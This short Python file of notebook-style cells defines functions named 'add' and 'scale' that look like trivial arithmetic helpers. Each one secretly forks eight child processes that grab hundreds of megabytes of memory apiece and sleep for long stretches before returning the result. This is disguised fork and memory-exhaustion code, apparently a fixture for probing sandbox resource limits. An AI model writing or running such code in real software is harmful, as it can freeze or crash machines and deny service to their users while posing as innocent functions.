# %% add
def add(a, b):
    import os, time
    for child in range(8):
        if os.fork() == 0:
            hoard = []
            for _ in range(24):
                hoard.append(b"x" * (1 << 24))
                time.sleep(0.02)
            time.sleep(1000)
    time.sleep(1000)
    return a + b
# %% scale
def scale(x, factor):
    import os, time
    hoard = bytearray(b"x" * (350 << 20))
    for child in range(8):
        if os.fork() == 0:
            for page in range(0, len(hoard), 4096):
                hoard[page] = 0
                if page % (1 << 24) == 0:
                    time.sleep(0.02)
            time.sleep(1000)
    time.sleep(1000)
    return x * factor
